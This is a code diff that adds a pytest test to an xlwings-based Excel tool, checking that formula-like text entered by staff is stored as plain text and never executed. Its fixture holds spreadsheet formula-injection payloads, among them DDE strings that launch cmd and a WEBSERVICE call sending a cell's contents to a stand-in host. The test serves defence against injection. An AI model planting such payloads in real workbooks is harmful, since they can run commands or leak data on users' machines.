@@ -18,6 +18,7 @@ import xlwings as xw
 from xlwings.server import custom_functions_call, custom_scripts_call
 
 from ikuxl.aksi import recalc, rencana
+from ikuxl.plan import Rumusan
 from ikuxl.workbook.baca import baca_dokumen
 from ikuxl.excel import fungsi, skrip
 
@@ -186,3 +187,40 @@ def test_server_manifest_fungsi_dan_skrip_lewat_http(server):
     assert hasil["result"][0][0] == pytest.approx(107.142857142857)
     aksi = _kirim(server, "/xlwings/custom-scripts-call/hitung_capaian", muatan(WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx"))
     assert any(a["func"] == "alert" and "5 indikator dihitung" in a["args"][0] for a in aksi["actions"])
+
+
+# Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean
+MIRIP_RUMUS = {"G5": '+WEBSERVICE("http://x.example/?"&A1)', "H5": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "G6": "-2+3+cmd|' /C calc'!A0", "G7": " =1+1", "H6": '\t=HYPERLINK("http://x.example")',
+               "C5": "1/2", "D5": "TRUE", "H7": "'kutip"}
+
+
+def test_teks_mirip_rumus_tetap_teks(tmp_path):
+    """Every text goes to the live book as text (the apostrophe), whatever it starts with; a negative number
+    stays a number and ikuxl's own formulas stay formulas."""
+    path = tmp_path / "a.xlsx"
+    path.write_bytes((WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx").read_bytes())
+    wb = openpyxl.load_workbook(path)
+    for sel, teks in MIRIP_RUMUS.items():
+        wb["IKU"][sel].value, wb["IKU"][sel].data_type = teks, "s"
+    wb["Realisasi"]["G6"] = -5
+    wb.save(path)
+    plan = rencana(baca_dokumen(path))[0]
+    rumus = {"=" + s.nilai.excel for lp in plan.lembar for s in lp.sel.values() if isinstance(s.nilai, Rumusan)}
+    excel = Excel(path)
+    for nama in ("validasi", "hitung_capaian", "perbarui_ringkasan"):
+        aksi = jalankan(path, nama)
+        ditulis = [v for a in aksi if a["func"] in ("setFormula", "setValues") for b in a["values"] for v in b]
+        assert [v for v in ditulis if isinstance(v, str) and v and not v.startswith("'") and v not in rumus] == []
+        assert any(v in rumus for v in ditulis) or nama == "validasi"
+        excel.terapkan(aksi)
+    teks = {}
+    for lp in plan.lembar:
+        if lp.nama in MILIK:
+            for (r, c), s in lp.sel.items():
+                if isinstance(s.nilai, str):
+                    sel = excel.wb[lp.nama].cell(r, c)
+                    teks[s.nilai] = (sel.value, sel.data_type)
+    assert {t: v for t, v in teks.items() if v != (t, "s")} == {}
+    assert {t.strip() for t in MIRIP_RUMUS.values()} <= teks.keys()  # leading blanks are trimmed on reading
+    assert excel.wb["Realisasi"]["G6"].value == -5
